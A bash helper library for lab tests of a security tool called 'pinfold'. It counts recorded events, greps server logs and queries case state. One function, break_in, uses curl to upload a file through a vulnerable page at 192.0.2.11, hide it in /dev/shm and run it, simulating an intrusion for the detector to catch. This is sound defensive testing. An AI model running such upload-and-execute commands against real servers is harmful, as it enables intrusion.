# What tests ask the lab's desk; read by `source`. Needs: $lab, $run, $programs, $config, $serve_log, $python, $work.
# shellcheck shell=bash disable=SC2154
is() { [ "$1" = "$2" ] || { echo "$1, not $2" && return 1; }; }
on() { "$lab" exec "$run" "$@"; }
pinfold() { on desk "$programs/pinfold" --config "$config" --json "$@"; }
# JSON lines from standard input: how many are there for which this holds of the object e?
count() {
  "$python" -c 'import json,sys; print(sum(bool(eval(sys.argv[1], {"e": json.loads(line)})) for line in sys.stdin if line.strip()))' "$1"
}
# events EXPRESSION: how many of the first case's events hold it; at_least N EXPRESSION
events() { pinfold case show PF-1 2>/dev/null | count "$1"; }
at_least() { [ "$(events "$2")" -ge "$1" ]; }
logged() { grep -c -- "$1" "$serve_log"; }
is_logged() { [ "$(logged "$2")" -ge "$1" ]; }
case_state() { pinfold case list | "$python" -c 'import json,sys; print(json.loads(sys.stdin.readline())["state"])'; }
health() { pinfold health | "$python" -c 'import json,sys; print(json.load(sys.stdin)[sys.argv[1]])' "$1"; }
# FILE (inside the host inet) is uploaded through the hole in A's page and run.
break_in() {
  on inet curl -sS --fail --max-time 30 -F "picture=@$1" -F path=/dev/shm/.cal.pl -F run=1 -F "arguments=1500 8" http://192.0.2.11/ >"$work/upload" 2>&1 &
}
readonly from_network='e["kind"] == "finding_recorded" and e["finding"]["origin"] == "network"'
